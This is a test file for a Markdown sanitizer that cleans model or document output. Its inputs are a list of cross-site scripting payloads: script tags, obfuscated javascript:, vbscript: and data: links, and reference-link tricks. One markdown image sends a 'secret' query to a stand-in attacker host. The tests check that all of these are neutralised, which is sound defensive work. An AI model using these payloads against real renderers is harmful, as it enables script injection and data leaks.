import { describe, expect, it } from "vitest";
import { plainText, safeMarkdown } from "../../../src/domain/text/markdown.ts";

describe("Markdown from a model or a document", () => {
  it.each([
    "**Net sales** were $82,959 million; 3 < 5, a<5 and x > y.",
    "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "[the report](https://example.com/a?b=c#d), [mail](mailto:a@b.c), [here](/docs/1), [top](#top), [file](a.pdf)",
    "As noted [1]: the ratio was 3:1.",
    "\u{1f600} \u{4e2d}\u{6587} e\u0301",
  ])("is left as it is: %j", (text) => {
    expect(safeMarkdown(text)).toBe(text);
  });

  it.each([
    "<script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "\\\\<img src=x onerror=alert(1)>",
    "<!--",
    "<?php",
    "<\u0000script>",
    "</passage>",
    "<javascript:alert(1)>",
  ])("has no HTML: %j", (text) => {
    expect(safeMarkdown(text)).not.toMatch(/<[a-z/!?]/i);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x]( JavaScript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    `[x](${" ".repeat(400)}javascript:alert(1))`,
    `[x](java${"\t".repeat(400)}script:alert(1))`,
    "[![y](z)](javascript:alert(1))",
    "[x]: javascript:alert(1)",
    "[x]:\n <javascript:alert(1)>",
    "> [x]:\n> javascript:alert(1)\n>\n> [x]",
    `> [x]:\n${">".repeat(400)} javascript:alert(1)`,
  ])("has no link that runs something: %j", (text) => {
    const safe = safeMarkdown(text);
    expect(safe).toContain("]\\");
    expect(safe.replace("](z)", "")).not.toMatch(/\]\(|\]:/);
  });

  it("fetches nothing by itself: an image is a link", () => {
    expect(safeMarkdown("![x](https://evil.example/?q=secret)")).toBe(
      "! [x](https://evil.example/?q=secret)",
    );
    expect(safeMarkdown("\\![x][ref]")).not.toContain("![");
  });

  it("has no control characters, no marks that turn its direction, no halves of characters", () => {
    expect(plainText("a\u0000b\u001b[31mc\u202ed\u0085\ud800e\tf\r\ng\rh")).toBe("ab[31mcd\ufffde\tf\ng\nh");
  });
});
